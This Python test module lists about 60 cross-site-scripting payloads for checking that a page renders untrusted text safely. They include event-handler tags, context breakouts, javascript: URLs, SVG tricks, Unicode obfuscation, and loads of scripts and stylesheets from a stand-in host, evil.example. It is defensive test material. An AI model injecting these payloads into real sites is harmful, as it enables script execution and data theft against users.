"""60 texts that would run, load or draw something if a page took them for more than text.

Source: trust S4; OWASP cheat sheet on script injection; maps 4.1 (how pyvis ran names).
"""

from __future__ import annotations

__all__ = ["ATTACKS", "RUN", "RUNS"]

# Whatever runs leaves a global behind; some also change the title or open a dialog.
RUN = "window.__ran=1;document.title='PW'+'NED'"
RUNS = "window.__ran !== undefined || document.title === 'PWNED'"
_CALL = "window.__ran=1;alert(1)"
_TO = "https://evil.example"

_TAGS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<a href="javascript:{RUN}">click</a>',
    f'<details open ontoggle="{RUN}">' + "很长long" * 60,
    f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}">',
    f'<video src=x onerror="{RUN}"><audio src=x onerror="{RUN}">',
    f'<iframe srcdoc="<script>parent.__ran=1</script>" onload="{RUN}"></iframe>',
    f'<body onpageshow="{RUN}"><marquee onstart="{RUN}">x</marquee>',
    f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}">b</b>',
    f'<ScRiPt\n>{RUN}</sCrIpT\t><img/src="x"/onerror={_CALL}>',
    f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
)
_WAYS_OUT = (
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"</script><script>{RUN}</script>",
    f"</title></style></textarea><script>{RUN}</script>",
    f"</noscript></template></select></option><img src=x onerror={_CALL}>",
    f"]]><![CDATA[<script>{RUN}</script>]]>--><!--<script>{RUN}</script>",
    f"--!><img src=x onerror='{RUN}'><!--",
    f"<!--<script>--></script><script>{RUN}</script>",
    f'`;{RUN}//\\";{RUN}//\\\\u003cscript\\\\u003e',
    f'"}};{RUN};//\\',
    f"');{_CALL};//",
    f"\u2028{RUN}\u2029{RUN}",
    f'"]}}]);{RUN};([{{"a":["',
    f"${{{RUN}}}`${{{RUN}}}`",
    f"\n\r{RUN}\n\r//",
    f'x" onclick={RUN} onpointerenter="{RUN}',
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f" \x01java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}//{_TO}/x.js",
    "//evil.example/%2e%2e/%00?lang=zh#person=\"'><b>",
    "../../../../sign-out?edit=leave+x&fragment=1#<img src=x>",
    f"{_TO}/?q=<script src={_TO}/x.js></script>",
    "&#106;avascript&colon;alert&lpar;1&rpar;&lt;script&gt;&amp;lt;",
)
_DRAWINGS = (
    f'<foreignObject><body onload="{RUN}"></body></foreignObject>',
    f'</text></g></svg><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script><svg><text>',
    f'<use href="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={_CALL}>#x"/>',
    f'<animate attributeName="href" values="javascript:{RUN}"/><set attributeName=onload to={RUN}>',
    f'<?xml-stylesheet href="{_TO}/x.xsl" type="text/xsl"?><!DOCTYPE x [<!ENTITY e "{RUN}">]>&e;',
    f'<image href="{_TO}/a.png"/><feImage href="{_TO}/b.png"/><font-face-uri href="{_TO}/c"/>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_CALL}>'>",
    f'<svg></p><style><a id="</style><img src=x onerror={_CALL}>">',
)
_LOADS = (
    f"</style><style>*{{background:url({_TO}/a.png)!important}}</style>",
    f"<iframe src={_TO}></iframe><object data={_TO}/x></object>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0;url=//e>",
    f'<base href="{_TO}/"><script type=module src=/x.js></script>',
    f'}}@import url("{_TO}/x.css");*{{color:red;behavior:url({_TO})}}',
    f'<form action={_TO}><input type=image src=x formaction="javascript:{RUN}"></form>',
    f'<img srcset="{_TO}/s.png 1x" loading=eager><picture><source srcset={_TO}/t.png></picture>',
)
_OBJECTS = (
    "{{7*7}}{% if 1 %}{{ ''.__class__ }}{% endif %}${7*7}#{7*7}",
    "__proto__",
    '{"__proto__":{"title":"<img src=x onerror=window.__ran=1>","innerHTML":"<b>"}}',
    "<a id=__ran></a><form id=document name=cookie><input name=title id=location>",
    f'see <a href="{_TO}">here</a><img src=x onerror="{RUN}"> href',
)
_LETTERS = (
    f'\u202e<b onclick="{RUN}">\u2066drawkcab\u2069\u202c',
    f"a\x01b\x1fc\ufffe<script>{RUN}</script>",
    f"\ufeff\u200b＜script＞{RUN}＜/script＞\u02ba onload=\u02b9",
    f"\xa0<\x0bimg\x0csrc=x\xa0onerror={_CALL}>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
ATTACKS = (
    *_TAGS,
    *_WAYS_OUT,
    *_ADDRESSES,
    *_DRAWINGS,
    *_LOADS,
    *_OBJECTS,
    *_LETTERS,
)
